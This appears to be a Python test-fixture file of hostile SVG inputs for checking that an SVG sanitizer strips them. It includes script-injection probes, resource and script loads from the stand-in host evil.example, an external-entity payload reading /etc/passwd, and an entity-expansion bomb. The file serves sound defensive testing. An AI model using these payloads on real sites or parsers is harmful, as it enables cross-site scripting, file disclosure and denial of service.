"""SVGs that try to run code, to load something, or never to finish."""

from __future__ import annotations

SHAPE = '<path d="M0 0h9v9z"/>'


def svg(inside: str, root: str = "") -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        f" {root}>{inside}{SHAPE}</svg>"
    )


SVGS = [
    svg("<script>alert(1)</script>"),
    svg('<script href="https://evil.example/x.js"/>'),
    svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
    svg("<g><script><![CDATA[alert(1)]]></script></g>"),
    svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    svg("", root='onload="alert(1)"'),
    svg('<g onclick="alert(1)" onmouseover="alert(1)" onbegin="alert(1)"/>'),
    svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    svg('<animate attributeName="onload" to="alert(1)" onbegin="alert(1)"/>'),
    svg('<set attributeName="href" to="javascript:alert(1)"/>'),
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
    svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
    svg('<image href="https://evil.example/x.png"/>'),
    svg('<image xlink:href="https://evil.example/x.svg"/>'),
    svg('<feImage href="https://evil.example/x.png"/>'),
    svg('<use href="https://evil.example/x.svg#a"/>'),
    svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
    svg("<style>@import 'https://evil.example/x.css';</style>"),
    svg("<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>"),
    svg("<style>.a{fill:url(https://evil.example/x.svg#a)}</style>"),
    svg("<style>.a{background:url(https://evil.example/x.png)}</style>"),
    svg("<style>.a{fill:u\\72l(https://evil.example/x.png)}</style>"),
    svg("<style>.a{fill:ur/**/l(https://evil.example/x.png)}</style>"),
    svg("<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>"),
    svg('<g style="fill:url(https://evil.example/x.png)"/>'),
    svg('<g style="behavior:url(x.htc);fill:red"/>'),
    svg('<g fill="url(https://evil.example/x.svg#a)"/>'),
    svg('<g fill="url(\'//evil.example/x.svg#a\')"/>'),
    svg('<g filter="url(https://evil.example/x.svg#a)"/>'),
    svg('<handler type="application/ecmascript">alert(1)</handler>'),
    svg('<listener event="load" handler="#a"/>'),
    svg('<iframe src="javascript:alert(1)"/>'),
    svg('<embed src="https://evil.example/x"/>'),
    svg('<video><source onerror="alert(1)"/></video>'),
    svg("<title>&lt;script>alert(1)&lt;/script></title>"),
    svg("<desc><script>alert(1)</script></desc>"),
    "<?xml-stylesheet href='https://evil.example/x.css'?>" + svg(""),
    svg("<!-- --><script>alert(1)</script><!-- -->"),
    svg("", root='xml:base="https://evil.example/"'),
]  # fmt: skip

ENTITIES = [
    '<!DOCTYPE svg [<!ENTITY a "x">]>' + svg("<text>&a;</text>"),
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<text>&a;</text>"),
    '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>' + svg(""),
    '<!DOCTYPE svg [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;">]>' + svg("<text>&b;</text>"),
]  # fmt: skip
